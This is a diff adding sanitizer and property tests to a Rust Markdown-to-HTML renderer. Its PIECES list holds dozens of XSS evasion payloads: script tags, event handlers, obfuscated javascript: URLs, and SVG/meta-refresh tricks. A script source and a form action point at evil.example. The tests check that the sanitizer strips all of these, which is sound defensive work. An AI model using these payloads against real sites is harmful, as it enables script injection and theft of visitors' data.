@@ -1,5 +1,16 @@
-//! What a field publishes, and what it reports: addresses that must not be
-//! published left out, and what the caller must check listed.
+//! What a field publishes, and what it reports: raw HTML sanitized, addresses
+//! that must not be published left out, and what the caller must check
+//! listed. The property test reads the published HTML with html5ever's
+//! tokenizer, as a browser would.
+
+use std::cell::RefCell;
+
+use html5ever::tendril::StrTendril;
+use html5ever::tokenizer::{
+    BufferQueue, CommentToken, StartTag, TagToken, Token, TokenSink, TokenSinkResult, Tokenizer,
+    TokenizerOpts, states::RawKind,
+};
+use proptest::prelude::*;
 
 use super::*;
 
@@ -23,7 +34,8 @@ fn problems<'t>(text: &'t str, out: &Rendered) -> Vec<(Severity, &'t str, String
 }
 
 #[test]
-fn fields_without_problems_keep_pulldown_cmarks_bytes() {
+fn fields_without_raw_html_keep_pulldown_cmarks_bytes() {
+    // The sanitizer would write `<br>` and a plain `"`.
     let text = "A \"quote\"  \nand [a link](actor:russia).";
     let out = render(text, &Ids);
     assert_eq!(
@@ -31,6 +43,23 @@ fn fields_without_problems_keep_pulldown_cmarks_bytes() {
         "<p>A “quote”<br />\nand <a href=\"./actors/russia/\">a link</a>.</p>\n"
     );
     assert!(out.problems.is_empty());
+}
+
+#[test]
+fn raw_html_is_sanitized() {
+    let text = "Intro <script>alert(1)</script> and \
+        <img src=\"images/a.png\" alt=\"A map\" onclick=\"steal()\" style=\"border:0\">.\n\n\
+        <iframe src=\"https://video.example/embed/1\"></iframe>\n\n\
+        <svg onload=alert(1)><circle r=1 /></svg>\n\n\
+        <form action=\"https://evil.example/\"><input name=q></form>\n\n\
+        <meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">\n\n\
+        A <a href=\"JaVa&#x09;ScRiPt:alert(1)\" title=\"t\">link</a>.";
+    let out = render(text, &Ids);
+    assert_eq!(
+        out.html.at("../"),
+        "<p>Intro  and <img src=\"../images/a.png\" alt=\"A map\">.</p>\n\n<p></p>\n\n\n\
+         <p>A <a title=\"t\">link</a>.</p>\n"
+    );
 }
 
 #[test]
@@ -184,4 +213,209 @@ fn links_to_paths_on_the_site_are_listed_from_the_root() {
         ]
     );
     assert_eq!(out.internal[1].written, "../no-such-page/");
+}
+
+#[test]
+fn embed_markers_survive_sanitizing_and_cannot_be_forged() {
+    let text = "<!--explainer-embed:0--> <b>Bold</b> <div class=\"wide\">\n\n\
+        {{ map() }}\n\nAfter <!--explainer-embed:1-->.\n";
+    let out = render(text, &Ids);
+    assert_eq!(out.embeds.len(), 1);
+    assert_eq!(
+        out.html.at("./"),
+        " <b>Bold</b> <div class=\"wide\">\n</div><!--explainer-embed:0-->\n<p>After .</p>\n"
+    );
+}
+
+#[test]
+fn cross_references_keep_working_in_fields_with_raw_html() {
+    let out = render(
+        "See <b>[Moscow](actor:russia)</b>.[^n]\n\n[^n]: A note.",
+        &Ids,
+    );
+    let html = out.html.at("../");
+    assert!(
+        html.contains("<b><a href=\"../actors/russia/\">Moscow</a></b>"),
+        "{html}"
+    );
+    assert!(
+        html.contains(
+            "<sup class=\"footnote-reference\" id=\"fn-n-ref\"><a href=\"#fn-n\">1</a></sup>"
+        ),
+        "{html}"
+    );
+}
+
+/// Pieces of HTML and Markdown an attacker or a careless paste could bring.
+const PIECES: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<script",
+    "<img src=x onerror=alert(1)>",
+    "<IMG SRC=\"javascript:alert(1)\">",
+    "<img src=x OnErRoR = alert(1)>",
+    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
+    "<img/src=x/onerror=alert(1)>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"JaVaScRiPt:alert(1)\">",
+    "<a href=\"java&#x09;script:alert(1)\">",
+    "<a href=\"&#106;avascript:alert(1)\">",
+    "<a href=\"&#0000106&#0000097vascript:alert(1)\">",
+    "<a href=\"javascript&colon;alert(1)\">",
+    "<a href=\"  vbscript:msgbox(1)\">",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">",
+    "<a href='java\nscript:alert(1)'>",
+    "<a href=java\u{0}script:alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<iframe src=\"javascript:alert(1)\">",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "<form action=\"javascript:alert(1)\"><button formaction=javascript:alert(1)>go</button>",
+    "<object data=\"javascript:alert(1)\">",
+    "<embed src=\"javascript:alert(1)\">",
+    "<div style=\"background:url(javascript:alert(1))\">",
+    "<p onmouseover=\"alert(1)\">",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<style>@import 'x'</style>",
+    "<link rel=stylesheet href=x>",
+    "<base href=\"javascript:/\">",
+    "<noscript><img src=x onerror=alert(1)></noscript>",
+    "<textarea><script>alert(1)</script></textarea>",
+    "<template><script>alert(1)</script></template>",
+    "<!--",
+    "-->",
+    "<!-- <script>alert(1)</script> -->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<!--explainer-embed:0-->",
+    "~~explainer-root~~",
+    "\"",
+    "'",
+    "<",
+    ">",
+    "=",
+    "</a>",
+    "<div>",
+    "</div>",
+    "<table><td>",
+    "\n\n",
+    "\n",
+    " ",
+    "*em*",
+    "[x](javascript:alert(1))",
+    "![y](data:text/html,z)",
+    "<javascript:alert(1)>",
+    "[l](/path/)",
+    "<img src=https://tracker.example/p.gif>",
+    "<img src=\"https://t.example/a.gif?x=1&amp;y=2\" alt=a>",
+    "<img\nsrc=https://split.example/p.gif\n",
+    "![c](https://cdn.example.org/c.png)",
+    "![c](//cdn.example.org/d.png)",
+    "\n\n{{ map() }}\n\n",
+    "[r]\n\n[r]: javascript:alert(1)\n\n",
+    "\n    <script>alert(1)</script>\n",
+    "\n```\n<script>\n```\n",
+];
+
+/// A start tag or comment in published HTML, as a browser's tokenizer reads it.
+#[derive(Debug)]
+enum Read {
+    Tag(String, Vec<(String, String)>),
+    Comment(String),
+}
+
+#[derive(Default)]
+struct Reader(RefCell<Vec<Read>>);
+
+impl TokenSink for Reader {
+    type Handle = ();
+
+    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
+        match token {
+            TagToken(tag) if tag.kind == StartTag => {
+                let name = tag.name.to_string();
+                let attrs = tag
+                    .attrs
+                    .iter()
+                    .map(|a| (a.name.local.to_string(), a.value.to_string()))
+                    .collect();
+                self.0.borrow_mut().push(Read::Tag(name.clone(), attrs));
+                return match name.as_str() {
+                    "script" => TokenSinkResult::RawData(RawKind::ScriptData),
+                    "style" | "xmp" | "iframe" | "noembed" | "noframes" | "noscript" => {
+                        TokenSinkResult::RawData(RawKind::Rawtext)
+                    }
+                    "title" | "textarea" => TokenSinkResult::RawData(RawKind::Rcdata),
+                    "plaintext" => TokenSinkResult::Plaintext,
+                    _ => TokenSinkResult::Continue,
+                };
+            }
+            CommentToken(text) => self.0.borrow_mut().push(Read::Comment(text.to_string())),
+            _ => {}
+        }
+        TokenSinkResult::Continue
+    }
+}
+
+fn read(html: &str) -> Vec<Read> {
+    let input = BufferQueue::default();
+    input.push_back(StrTendril::from_slice(html));
+    let tokenizer = Tokenizer::new(Reader::default(), TokenizerOpts::default());
+    let _ = tokenizer.feed(&input);
+    tokenizer.end();
+    tokenizer.sink.0.take()
+}
+
+/// Whether an address runs code or is a document, as a browser would take it.
+fn runs_code(value: &str) -> bool {
+    let squeezed: String = value
+        .chars()
+        .filter(|c| !c.is_ascii_control() && !c.is_whitespace())
+        .collect::<String>()
+        .to_ascii_lowercase();
+    ["javascript:", "vbscript:", "data:"]
+        .iter()
+        .any(|scheme| squeezed.starts_with(scheme))
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]
+
+    #[test]
+    fn published_fields_have_no_script_handler_or_script_address(
+        pieces in prop::collection::vec((prop::sample::select(PIECES), any::<bool>()), 1..14)
+    ) {
+        let text: String = pieces
+            .iter()
+            .map(|(piece, upper)| if *upper { piece.to_uppercase() } else { piece.to_string() })
+            .collect();
+        let out = render(&text, &Ids);
+        let html = out.html.at("./");
+        let mut markers = Vec::new();
+        for token in read(&html) {
+            match token {
+                Read::Tag(name, attrs) => {
+                    prop_assert!(sanitize::TAGS.contains(&name.as_str()), "<{}> in {}", name, html);
+                    for (attr, value) in attrs {
+                        prop_assert!(!attr.starts_with("on"), "{} in {}", attr, html);
+                        prop_assert!(
+                            attr != "style" || value.starts_with("text-align: "),
+                            "style in {}", html
+                        );
+                        if matches!(attr.as_str(), "href" | "src") {
+                            prop_assert!(!runs_code(&value), "{}={} in {}", attr, value, html);
+                        }
+                    }
+                }
+                Read::Comment(text) => markers.push(text),
+            }
+        }
+        let expected: Vec<String> = (0..out.embeds.len()).map(|n| format!("explainer-embed:{n}")).collect();
+        prop_assert_eq!(markers, expected, "{}", html);
+        prop_assert!(!html.to_ascii_lowercase().contains("<script"), "{}", html);
+    }
 }
